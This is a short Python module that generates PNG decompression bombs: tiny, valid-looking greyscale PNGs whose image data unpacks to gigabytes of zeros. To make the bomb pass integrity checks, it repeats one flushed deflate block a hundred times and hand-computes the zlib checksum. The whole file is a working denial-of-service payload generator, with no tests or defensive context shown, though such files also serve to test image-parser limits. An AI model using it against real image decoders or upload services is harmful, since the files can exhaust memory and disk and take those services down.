"""Small PNG files that unpack to gigabytes."""

import struct
import zlib


def _chunk(kind, data):
    """One chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side, bits=8):
    """A PNG of zeros, ``side`` pixels wide and high, grey; the side is a multiple of 100.

    A hundredth of the rows is packed, as a block of its own, and stands there a hundred times.
    """
    size = (1 + side * bits // 8) * side
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    block = packer.compress(bytes(size // 100)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = struct.pack(">I", size % 65521 << 16 | 1)  # Adler's, of so many zeros
    rows = b"\x78\xda" + block * 100 + b"\x03\x00" + checksum
    header = struct.pack(">IIBBBBB", side, side, bits, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", rows)
        + _chunk(b"IEND", b"")
    )
